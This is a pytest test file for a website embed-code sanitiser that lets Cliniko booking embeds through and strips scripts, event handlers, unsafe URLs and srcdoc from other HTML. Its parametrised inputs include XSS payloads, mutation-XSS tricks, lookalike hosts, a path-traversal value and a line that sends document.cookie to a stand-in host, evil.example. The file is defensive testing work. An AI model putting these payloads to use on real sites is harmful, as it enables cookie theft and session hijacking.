"""Embed code: Cliniko's passes unchanged; anything else is cleaned, and staff are told what went."""
import pytest

from oncord.website.embeds import (EmbedRefused, clean_embed, embedded_hosts, is_cliniko_booking_url,
                                   parse_cliniko_embed)
from tests.website.cliniko_samples import CLINIKO_EMBED, CLINIKO_SRC, OLD_CLINIKO_EMBED


def test_cliniko_embed_passes_through_unchanged():
    result = clean_embed(CLINIKO_EMBED)
    assert result.kind == "cliniko"
    assert result.code == CLINIKO_EMBED
    assert result.removed == []
    embed = parse_cliniko_embed(CLINIKO_EMBED)
    assert embed.src == CLINIKO_SRC and embed.has_script and embed.attributes["id"] == "cliniko-62506279"


@pytest.mark.parametrize("code", [
    OLD_CLINIKO_EMBED,
    CLINIKO_EMBED.replace("au3.", "uk2.").replace("?embedded=true", "?business_id=59092&practitioner_id=158654&embedded=true"),
    CLINIKO_EMBED.split("<script")[0].strip(),  # without the script
])
def test_other_cliniko_embed_shapes_are_recognised(code):
    assert clean_embed(code).kind == "cliniko"
    assert clean_embed(code).code == code


@pytest.mark.parametrize("code", [
    CLINIKO_EMBED.replace("my-org.au3.cliniko.com", "cliniko.com.evil.example"),
    CLINIKO_EMBED.replace("https://", "http://"),
    CLINIKO_EMBED.replace("scrollIntoView();", "scrollIntoView(); fetch('https://evil.example/?c=' + document.cookie);"),
    CLINIKO_EMBED.replace("getElementById('cliniko-62506279')", "getElementById('cliniko-1')"),
    CLINIKO_EMBED.replace("frameborder='0'", "frameborder='0' onload='alert(1)'"),
    CLINIKO_EMBED.replace("frameborder='0'", "frameborder='0' srcdoc='<script>alert(1)</script>'"),
    CLINIKO_EMBED + "<img src=x onerror=alert(1)>",
    CLINIKO_EMBED.replace("?embedded=true", "?embedded=true").replace("/bookings", "/bookings/../patients"),
])
def test_lookalikes_are_not_treated_as_cliniko(code):
    assert parse_cliniko_embed(code) is None
    try:
        result = clean_embed(code)
    except EmbedRefused:
        return
    assert result.kind == "html"
    assert "<script" not in result.code and "onload" not in result.code and "onerror" not in result.code
    assert "srcdoc" not in result.code and "evil.example/?c=" not in result.code


def test_script_tags_are_removed_and_reported():
    result = clean_embed('<p>Hello</p><script>alert(1)</script>')
    assert result.code == "<p>Hello</p>"
    assert "<script>" in result.removed


@pytest.mark.parametrize("code,attribute", [
    ('<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', "onload"),
    ('<img src="https://img.example/a.png" onerror="alert(1)">', "onerror"),
    ('<div onclick="alert(1)">hi</div>', "onclick"),
])
def test_event_handlers_are_removed_and_reported(code, attribute):
    result = clean_embed(code)
    assert attribute not in result.code
    assert f"{attribute} event handler" in result.removed


@pytest.mark.parametrize("href", ["javascript:alert(1)", "jav&#x61;script:alert(1)", " javascript:alert(1)",
                                  "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>"])
def test_javascript_and_data_urls_are_removed(href):
    result = clean_embed(f'<a href="{href}">click</a>')
    assert "href" not in result.code and "javascript" not in result.code.lower()
    assert any(item.startswith("href of <a>") for item in result.removed)


def test_srcdoc_is_removed():
    result = clean_embed('<iframe src="https://maps.example/embed" srcdoc="<script>alert(1)</script>"></iframe>')
    assert result.code == '<iframe src="https://maps.example/embed"></iframe>'
    assert "srcdoc attribute" in result.removed


@pytest.mark.parametrize("code", ['<iframe src="http://maps.example/embed"></iframe>',
                                  '<iframe src="//maps.example/embed"></iframe>',
                                  '<iframe src="/website/pages/"></iframe>',
                                  '<iframe src="javascript:alert(1)"></iframe>'])
def test_iframes_not_from_https_are_refused(code):
    with pytest.raises(EmbedRefused, match="https"):
        clean_embed(code)


def test_https_iframes_are_kept():
    code = '<iframe src="https://www.google.com/maps/embed?pb=1" width="600" height="450" loading="lazy"></iframe>'
    result = clean_embed(code)
    assert result.kind == "html" and result.code == code and result.removed == []


def test_other_iframes_lose_device_permissions_and_referrer_policy():
    code = ('<iframe src="https://video.example/embed/1" width="560" allowfullscreen '
            'allow="camera; microphone; geolocation" referrerpolicy="unsafe-url"></iframe>')
    result = clean_embed(code)
    assert result.code == '<iframe src="https://video.example/embed/1" width="560" allowfullscreen=""></iframe>'
    assert result.removed == ["allow attribute", "referrerpolicy attribute"]  # and the editor says so


def test_embedded_hosts_are_the_iframe_and_image_sources():
    code = ('<iframe src="https://www.google.com/maps/embed"></iframe><img src="https://cdn.example/a.png">'
            '<a href="https://link.example/">not loaded</a><iframe src="https://www.google.com/x"></iframe>')
    assert embedded_hosts(code) == ["www.google.com", "cdn.example"]
    assert embedded_hosts("") == [] and embedded_hosts("<p>text</p>") == []


@pytest.mark.parametrize("code", [
    "<scr<script>ipt>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://ok.example"><script>alert(1)</script></iframe>',
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example'>",
    "<style>body{display:none}</style><p>x</p>",
    "<!-- <script>alert(1)</script> --><p>x</p>",
])
def test_nested_tricks_leave_nothing_executable(code):
    try:
        result = clean_embed(code)
    except EmbedRefused:
        return
    lowered = result.code.lower()
    for bad in ("<script", "onerror", "onload", "<svg", "<object", "<embed", "<style", "<!--", "<noscript", "<math"):
        assert bad not in lowered, (code, result.code)
    assert result.removed


def test_empty_and_oversized_code_is_refused():
    with pytest.raises(EmbedRefused):
        clean_embed("   ")
    with pytest.raises(EmbedRefused):
        clean_embed("<p>" + "x" * 20_000 + "</p>")
    with pytest.raises(EmbedRefused, match="Nothing"):
        clean_embed("<script>alert(1)</script>")


@pytest.mark.parametrize("url,ok", [
    ("https://my-clinic.au1.cliniko.com/bookings", True),
    ("https://my-clinic.cliniko.com/bookings?business_id=1#service", True),
    ("http://my-clinic.au1.cliniko.com/bookings", False),
    ("https://my-clinic.au1.cliniko.com.evil.example/bookings", False),
    ("https://my-clinic.au1.cliniko.com/patients/1", False),
])
def test_cliniko_booking_urls(url, ok):
    assert is_cliniko_booking_url(url) is ok
